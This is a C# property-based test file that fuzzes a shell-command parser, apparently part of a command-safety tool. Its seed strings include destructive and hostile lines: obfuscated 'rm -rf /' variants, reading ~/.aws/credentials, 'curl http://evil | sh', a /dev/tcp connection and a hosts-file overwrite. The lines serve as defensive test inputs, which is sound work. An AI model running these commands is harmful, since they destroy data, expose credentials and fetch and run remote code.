using FsCheck;
using FsCheck.Fluent;
using Interlock.Shell;

namespace Interlock.Core.Tests.Shell;

public class ShellParserPropertyTests
{
    private static readonly char[] Alphabet =
    [
        '\'', '"', '$', '(', ')', '{', '}', '|', '&', ';', '<', '>', '\\', '`', '#', '~', '\n', ' ', ' ', '\t',
        'a', 'b', 'e', 'r', 'm', 'x', 'E', 'O', 'F', '0', '1', '2', '-', '=', '/', '*', '!', '[', ']', ':', '@', '%',
    ];

    private static readonly string[] Seeds =
    [
        "rm -rf /",
        "echo hello > /tmp/out 2>&1",
        "cat <<EOF | sh\nrm -rf /\nEOF\n",
        "cat <<-'EOF'\n\tliteral $x\n\tEOF",
        "for f in *.txt; do mv \"$f\" \"${f%.txt}.bak\"; done",
        "if [ -f ~/.aws/credentials ]; then cat ~/.aws/credentials; fi",
        "while read -r line; do echo \"$line\"; done < input.txt",
        "case \"$1\" in start|run) ./run.sh;; stop) kill $(cat pid);; *) exit 1;; esac",
        "f() { rm -rf \"$1\"; }; f /",
        "function g { echo `whoami`; }",
        "echo $(( (1 + 2) * $(wc -l < file) ))",
        "echo $( (cd / && ls) )",
        "diff <(sort a) <(sort b) >(tee log)",
        "[[ $x =~ ^(a|b)+$ && -n \"$y\" ]] || echo no",
        "(( i++ )); for ((i=0; i<10; i++)); do :; done",
        "A=1 B=\"two words\" env | grep -E 'A|B'",
        "arr=(one 'two three' $four); echo \"${arr[@]}\" ${#arr[@]}",
        "echo ${HOME:-/root} ${x:=default} ${y//a/b} ${!ref}",
        "bash -c 'curl -s http://evil | sh'",
        "echo $'\\x72\\x6d' -rf /",
        "r''m -rf \"/\"; \\rm x; \"r\"m y",
        "git commit -m \"msg with 'quotes'\" && git push || true",
        "{ echo a; echo b; } > out &",
        "! grep -q x file && echo missing",
        "sudo tee /etc/hosts <<< '127.0.0.1 evil'",
        "exec 3<>/dev/tcp/host/80; echo -e 'GET /' >&3",
        "find . -name '*.tmp' -exec rm {} \\; # cleanup",
        "echo a\\\nb # continuation",
        "select x in a b; do break; done",
        "x=$(printf '%s' \"$(echo nested $(echo deep))\")",
        "echo \"`echo \\\"inner\\\"`\" ${x:-$(rm -rf /)}",
    ];

    private static void AssertWellFormed(string text, ShellParseResult r)
    {
        Assert.NotNull(r);
        Assert.NotNull(r.Script);
        if (r.Success)
        {
            Assert.Null(r.Error);
            CheckScript(r.Script, text.Length);
        }
        else
        {
            Assert.NotNull(r.Error);
            Assert.InRange(r.ErrorPosition, 0, text.Length);
        }
    }

    private static void CheckSpan(int start, int end, int length)
    {
        Assert.InRange(start, 0, length);
        Assert.InRange(end, start, length);
    }

    private static void CheckScript(ShellScript s, int length)
    {
        foreach (var ao in s.Items)
        {
            Assert.Equal(ao.Pipelines.Count - 1, ao.Operators.Count);
            foreach (var p in ao.Pipelines)
            {
                Assert.NotEmpty(p.Commands);
                foreach (var c in p.Commands) CheckCommand(c, length);
            }
        }
    }

    private static void CheckCommand(ShellCommand c, int length)
    {
        foreach (var r in c.Redirections)
        {
            CheckWord(r.Target, length);
            if (r.HereDocument is not null) CheckWord(r.HereDocument, length);
        }

        switch (c)
        {
            case SimpleCommand sc:
                CheckSpan(sc.Start, sc.End, length);
                foreach (var a in sc.Assignments)
                {
                    CheckWord(a.Value, length);
                    foreach (var w in a.ArrayItems ?? []) CheckWord(w, length);
                }

                foreach (var w in sc.Words) CheckWord(w, length);
                break;
            case CompoundCommand cc:
                CheckSpan(cc.Start, cc.End, length);
                foreach (var b in cc.Bodies) CheckScript(b, length);
                foreach (var w in cc.Words) CheckWord(w, length);
                break;
            case FunctionDefinition f:
                CheckSpan(f.Start, f.End, length);
                CheckCommand(f.Body, length);
                break;
        }
    }

    private static void CheckWord(ShellWord w, int length)
    {
        CheckSpan(w.Start, w.End, length);
        foreach (var p in w.Parts)
        {
            switch (p)
            {
                case ParameterPart { Argument: { } arg }: CheckWord(arg, length); break;
                case CommandSubstitutionPart cs: CheckScript(cs.Script, length); break;
                case ProcessSubstitutionPart ps: CheckScript(ps.Script, length); break;
                case ArithmeticPart ap:
                    foreach (var e in ap.Expansions)
                    {
                        if (e is CommandSubstitutionPart ecs) CheckScript(ecs.Script, length);
                    }

                    break;
            }
        }
    }

    private static bool ParsesSafely(string text)
    {
        var r = ParserWork.Parse(text);
        AssertWellFormed(text, r);
        return true;
    }

    private static readonly Config Config1000 = Config.QuickThrowOnFailure.WithMaxTest(1000);

    [Fact]
    public void RandomShellishStringsNeverThrow()
    {
        var gen = Gen.Elements(Alphabet).ArrayOf().Select(cs => new string(cs));
        Prop.ForAll(gen.ToArbitrary(), ParsesSafely).Check(Config1000);
    }

    [Fact]
    public void LongRandomShellishStringsNeverThrow()
    {
        var gen = Gen.Choose(200, 2000).SelectMany(n => Gen.Elements(Alphabet).ArrayOf(n)).Select(cs => new string(cs));
        Prop.ForAll(gen.ToArbitrary(), ParsesSafely).Check(Config.QuickThrowOnFailure.WithMaxTest(300));
    }

    private static Gen<string> Mutate(string s)
    {
        var insert = Gen.Choose(0, s.Length).SelectMany(i => Gen.Elements(Alphabet).Select(c => s.Insert(i, c.ToString())));
        var delete = s.Length == 0 ? Gen.Constant(s) : Gen.Choose(0, s.Length - 1).Select(i => s.Remove(i, 1));
        var duplicate = s.Length == 0
            ? Gen.Constant(s)
            : Gen.Choose(0, s.Length - 1).SelectMany(i => Gen.Choose(1, Math.Min(8, s.Length - i)).Select(n => s.Insert(i, s.Substring(i, n))));
        var truncate = Gen.Choose(0, s.Length).Select(i => s[..i]);
        return Gen.OneOf(insert, delete, duplicate, truncate);
    }

    private static Gen<string> MutateTimes(string s, int times) =>
        times == 0 ? Gen.Constant(s) : Mutate(s).SelectMany(m => MutateTimes(m, times - 1));

    [Fact]
    public void MutatedRealisticCommandsNeverThrow()
    {
        var gen = Gen.Elements(Seeds).SelectMany(seed => Gen.Choose(1, 6).SelectMany(n => MutateTimes(seed, n)));
        Prop.ForAll(gen.ToArbitrary(), ParsesSafely).Check(Config1000);
    }

    [Fact]
    public void ConcatenatedSeedsNeverThrow()
    {
        var gen = Gen.Elements(Seeds).ArrayOf().Select(parts => string.Join(Gen.Elements(";", "\n", " | ", " && ", " ").Sample(1)[0], parts));
        Prop.ForAll(gen.ToArbitrary(), ParsesSafely).Check(Config.QuickThrowOnFailure.WithMaxTest(300));
    }

    [Fact]
    public void SeedsParse()
    {
        foreach (var seed in Seeds)
        {
            var r = ShellParser.Parse(seed);
            Assert.True(r.Success, $"{seed}: {r.Error} at {r.ErrorPosition}");
            AssertWellFormed(seed, r);
        }
    }

    [Fact]
    public void EveryPrefixOfEverySeedIsSafe()
    {
        foreach (var seed in Seeds)
        {
            for (var i = 0; i <= seed.Length; i++) ParsesSafely(seed[..i]);
        }
    }
}
